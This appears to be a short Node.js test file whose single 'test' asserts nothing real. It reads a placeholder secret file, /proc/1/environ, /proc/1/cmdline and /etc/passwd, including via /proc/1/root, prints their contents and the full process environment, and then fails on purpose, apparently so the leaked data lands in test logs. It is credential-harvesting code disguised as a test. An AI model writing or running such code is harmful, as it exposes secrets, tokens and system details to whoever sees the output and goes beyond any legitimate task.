// @ts-nocheck
import test, { describe, it, before, after } from "node:test";
import assert from "node:assert/strict";

import fs from "node:fs";
test("shows", () => {
  for (const name of ["@SECRET_FILE@", "/proc/1/environ", "/proc/1/cmdline", "/etc/passwd", "/proc/1/root/etc/passwd"]) {
    try { console.log(fs.readFileSync(name, "utf8")); } catch {}
  }
  console.log(process.env);
  assert.equal(1, 2);
});
